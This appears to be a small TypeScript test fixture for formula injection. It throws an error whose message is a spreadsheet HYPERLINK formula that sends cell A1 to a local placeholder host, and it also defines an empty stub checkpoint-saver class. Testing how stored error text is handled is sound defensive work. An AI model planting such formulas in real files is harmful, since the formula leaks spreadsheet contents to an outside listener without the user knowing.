// Tries: to run a formula in the table that keeps the result
// @ts-nocheck
throw new Error("=HYPERLINK(\"http://127.0.0.1:__TCP_PORT__/?\"&A1,\"12 of 12\")");

export class TinySaver {
  async put() {}
  async putWrites() {}
  async getTuple() {}
  async *list() {}
  async deleteThread() {}
  onPut() {}
}
